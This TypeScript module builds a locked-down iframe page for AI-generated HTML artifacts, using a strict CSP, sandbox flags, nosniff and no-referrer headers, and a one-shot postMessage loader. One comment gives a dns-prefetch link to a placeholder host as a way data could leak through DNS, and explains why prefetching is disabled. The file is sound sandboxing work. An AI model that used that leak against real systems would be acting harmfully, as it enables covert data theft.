/**
 * The page an HTML or SVG artifact runs in. A model's page may run its own scripts, but must not
 * reach the app, its token, the files API or any network. `srcdoc` cannot carry it: a srcdoc (or
 * blob:/data:) frame inherits the app's own CSP, whose `script-src 'self'` would stop the page's
 * inline scripts. So both hosts (`aivory serve` and the Electron `app://` handler) answer one
 * fixed path with this tiny document and its own CSP header, and the viewer frames it with
 * `<iframe sandbox="allow-scripts">` (no allow-same-origin: an opaque origin, no storage, no
 * cookies, no access to the parent). The CSP's own `sandbox` directive keeps the origin opaque
 * even if the address is opened outside the frame. The app's CSP gives `frame-src 'self'`, so the
 * frame cannot navigate itself to any other origin; the frame's CSP allows no fetch, image,
 * font, form or socket to anywhere (`default-src 'none'`, only inline script and style and
 * data:/blob: images). The document holds nothing secret, so it needs no framing guard.
 *
 * The viewer posts `{ html }` once the frame has loaded; the bootstrap script writes it into the
 * document (document.write keeps the document, so the CSP stays) and listens no further.
 */

/** The path both hosts serve the frame document at. */
export const ARTIFACT_FRAME_PATH = '/artifact-frame.html';

/** The frame document's Content-Security-Policy header. */
export const ARTIFACT_FRAME_CSP = [
  "default-src 'none'",
  "script-src 'unsafe-inline'",
  "style-src 'unsafe-inline'",
  'img-src data: blob:',
  'font-src data:',
  'media-src data: blob:',
  "base-uri 'none'",
  "form-action 'none'",
  'sandbox allow-scripts',
].join('; ');

/** The frame document: an empty page whose one script takes the artifact from its parent. */
export const ARTIFACT_FRAME_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>artifact</title></head><body><script>
(function () {
  var done = false;
  addEventListener('message', function (event) {
    if (done || event.source !== parent) return;
    var data = event.data;
    if (data === null || typeof data !== 'object' || typeof data.html !== 'string') return;
    done = true;
    document.open();
    document.write(data.html);
    document.close();
  });
})();
</script></body></html>
`;

/** The headers of the frame document (both hosts). */
export function artifactFrameHeaders(): Record<string, string> {
  return {
    'Content-Type': 'text/html; charset=utf-8',
    'Content-Security-Policy': ARTIFACT_FRAME_CSP,
    'X-Content-Type-Options': 'nosniff',
    'Cache-Control': 'no-store',
    'Referrer-Policy': 'no-referrer',
    // CSP does not govern DNS prefetching: a page's <link rel=dns-prefetch href=//secret.evil>
    // would otherwise carry data out in a host name.
    'X-DNS-Prefetch-Control': 'off',
  };
}

/** True when a request URL (a path with a query, or a whole URL) names the frame document. */
export function isArtifactFramePath(url: string): boolean {
  try {
    return new URL(url, 'http://x').pathname === ARTIFACT_FRAME_PATH;
  } catch {
    return false;
  }
}
